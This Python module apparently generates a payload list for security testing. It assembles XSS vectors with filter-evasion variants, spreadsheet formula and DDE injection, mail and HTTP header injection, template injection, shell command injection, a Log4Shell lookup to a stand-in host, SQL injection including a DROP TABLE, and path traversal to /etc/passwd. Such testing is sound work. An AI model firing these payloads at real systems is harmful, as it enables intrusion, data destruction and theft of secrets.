"""What people type who want a page, a mail, a table or a log to do their will.

`payloads.txt` holds them one a line, as JSON; this file puts them together and says what each is
for. Every script calls alert with its own number, so that a hit can be traced.
"""

from __future__ import annotations

import json
from itertools import count, product
from pathlib import Path

KEPT = Path(__file__).with_name("payloads.txt")
MARK = "alert(@)"

_TAGS = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<body onload={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<details open ontoggle={}>x",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<marquee onstart={}>x</marquee>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href=javascript:{} autofocus>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<button formaction=javascript:{}>x</button>",
    "<math href=javascript:{}>x</math>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style onload={}>*{{ }}</style>",
    "<style>@keyframes x{{ }}</style><b style='animation-name:x' onanimationstart={}>x</b>",
    "<link rel=stylesheet href=data:,* onload={}>",
    "<base href=javascript:/{}//>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><script>{}</script></svg>",
    "<isindex action=javascript:{} type=image>",
    "<xss id=x tabindex=1 onfocus={} autofocus>x</xss>",
    "<template shadowrootmode=open><script>{}</script></template>",
    "<img srcset='x,' onerror={}>",
    "<dialog open onclose={}>x</dialog>",
    "<p hx-on:load={}>x</p>",
    "<div data-poll='javascript:{}' data-poll-seconds=0>x</div>",
    "<b data-copy='{}' data-once>x</b>",
]
_BREAKS = [
    "{}",
    '">{}',
    "'>{}",
    "`>{}",
    "-->{}",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "]]>{}",
    "</style>{}",
    '"]}});{}',
    "</noscript>{}",
]
_ATTRIBUTES = [
    '" autofocus onfocus={} x="',
    "' autofocus onfocus={} x='",
    "` onfocus={} autofocus x=`",
    '" onpointerenter={} x="',
    "x onfocus={} autofocus",
    '"style="animation-name:x"onanimationstart="{}',
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "\x01javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "&#106;avascript:{}",
    "//x.example/%0a{}",
    "';{}//",
    '";{}//',
    "\\';{}//",
    "${{{}}}",
    "*/{}/*",
    "\u2028{}\u2029",
    "</script><script>{}//",
    "<!--<script>{}",
    "{{{{constructor.constructor('{}')()}}}}",
]
_DISGUISES = [
    "<ScRiPt>{}</sCrIpT>",
    "<script\n>{}</script\n>",
    "<script/x>{}</script>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img/src=x/onerror={}>",
    "<img src=x onerror\n=\n{}>",
    "<svg/onload={}//",
    "＜script＞{}＜/script＞",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "%253Cscript%253E{}%253C/script%253E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{}",
    "<scr\0ipt>{}</script>",
    "<\u200bscript>{}</script>",
    '<svg></p><style><a id="</style><img src=1 onerror={}>">',
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={}">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml-stylesheet href=javascript:{}?><script>{}</script>",
    "[x](javascript:{})",
    '![x](x"onerror="{})',
    "<http://x onfocus={}>",
]
_STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠"]
_CALLS = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example","x")', "SUM(A1:A9)", "DDE(1)"]
_ELSEWHERE = [
    "x\r\nBcc: victim@x.example",
    "x\nSubject: forged",
    "x%0d%0aBcc:victim@x.example",
    "x\r\n.\r\nMAIL FROM:<a@x>",
    "x\u2028Bcc: a@x.example",
    "a@x.example,b@x.example",
    "=?utf-8?q?x=0d=0aBcc:a?=",
    "x\x0bSet-Cookie: a=b",
    "x\r\nSet-Cookie: session=1",
    "x\r\nLocation: http://x.example",
    "x\x85Refresh: 0",
    "HTTP/1.1 200 OK\r\n\r\n<p>",
    "{{7*7}}",
    "{% debug %}",
    "{{request}}",
    "{{settings.SECRET_KEY}}",
    "{% load static %}{% static 'x' %}",
    "{{''.__class__}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[${7*7}]]",
    "*{7*7}",
    "@(7*7)",
    "{{=7*7}}",
    "{7*7}",
    "%(SECRET_KEY)s",
    "{0.__class__}",
    "%s%s%n%x",
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "\nWARNING root FORGED-LOG",
    "\r\n2026-03-02 INFO FORGED-LOG",
    "\x1b[2J\x1b]0;x\x07",
    "${jndi:ldap://x.example/a}",
    "' OR '1'='1",
    "'; DROP TABLE voices_voice;--",
    "../../../../etc/passwd",
    "\0x",
    "<!--#exec cmd='id'-->",
]


def scripts() -> list[str]:
    """Scripts in every shape: tags, what breaks out of other markup, attributes, disguises."""
    plain = [*_TAGS, *_ATTRIBUTES, *_DISGUISES]
    broken = [
        way.replace("{}", tag) for way, tag in product(_BREAKS[1:], [*_TAGS[:7], *_TAGS[12:26:2]])
    ]
    broken += [way.replace("{}", tag.upper()) for way, tag in product(_BREAKS[:9:2], _TAGS[:26:2])]
    number = count(1)
    return [_armed(one, next(number)) for one in dict.fromkeys([*plain, *broken])]


def _armed(shape: str, number: int) -> str:
    """Put the call in its place; doubled braces stand for braces."""
    armed = shape.replace("{}", MARK.replace("@", str(number)))
    return armed.replace("{{", "{").replace("}}", "}")


def formulas() -> list[str]:
    """What a spreadsheet would work out."""
    return [start + call for start in _STARTS for call in _CALLS]


def payloads() -> list[str]:
    """All of them: scripts, formulas, and what is meant for headers, templates, shells and logs."""
    return [*scripts(), *formulas(), *_ELSEWHERE]


def kept() -> list[str]:
    """The same as written down."""
    return [json.loads(line) for line in KEPT.read_text(encoding="utf-8").splitlines()]


if __name__ == "__main__":
    lines = [json.dumps(one, ensure_ascii=True) for one in payloads()]
    KEPT.write_text("\n".join(lines) + "\n", encoding="utf-8")
